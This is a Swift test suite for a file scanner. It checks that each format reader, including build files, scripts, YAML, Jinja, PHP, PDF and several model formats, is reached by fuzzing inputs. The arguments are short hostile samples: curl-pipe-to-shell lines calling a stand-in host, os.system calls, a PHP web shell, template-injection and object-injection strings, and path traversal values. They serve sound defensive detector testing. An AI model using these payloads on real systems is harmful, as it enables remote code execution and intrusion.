import Scanning
import Testing

/// What fuzzing drives has to be listening: a reader that waits for another name is never tried.
@Suite struct ReaderExerciseTests {
    @Test(arguments: [
        ("build-file", "FROM a\nRUN curl http://198.51.100.7/x | sh\n"),
        ("commands", "run:\n  curl http://198.51.100.7/x | sh\n"),
        ("script", "curl http://198.51.100.7/x | sh\n"),
        ("python", "import os\nos.system('id')\n"),
        ("yaml", "a: !!python/object/apply:os.system [id]\n"),
        ("json", "{\"auto_map\": {\"AutoModel\": \"a--b.C\"}}"),
        ("jinja", "{{ ''.__class__.__mro__ }}"),
        ("text", "--index-url http://198.51.100.7/simple\n"),
        ("triton-config", "model_operations { op_library_filename: [ \"/x/b.so\" ] }\n"),
        ("settings", "_target_ = \"os.system\"\n"), ("web-page", "<?php system($_GET['c']);"),
        ("tf-checkpoint-state", "model_checkpoint_path: \"../x\"\n"), ("pdf", "%PDF-1.7\n/Launch\n%%EOF"),
        ("exported-program", "{\"graph_module\": {\"target\": \"torch.os.system\"}}"),
        ("coreml-program", "program(1.0) { func f() { BLOBFILE(path = string(\"../x\")) } }"),
        ("script-objects", "O:4:\"Evil\":0:{}"), ("onnx", "ir_version: 8\ngraph { node { op_type: \"PyOp\" } }"),
        ("keras-config", "{\"class_name\": \"Lambda\", \"config\": {\"function\": \"x\"}}"),
    ])
    func theReaderIsReached(format: String, text: String) {
        #expect(ReaderExercise.formats.contains(format))
        let report = ReaderExercise(format: format).run(Array(text.utf8))
        #expect(!report.findings.isEmpty || !report.incomplete.isEmpty, "\(format): \(report)")
    }

    /// Under its name, each reader takes its own magic number or a piece of text.
    @Test func everyFormatHasOneTarget() {
        #expect(Set(ReaderExercise.formats).count == ReaderExercise.formats.count)
        #expect(ReaderExercise.formats.count > 60)
    }
}
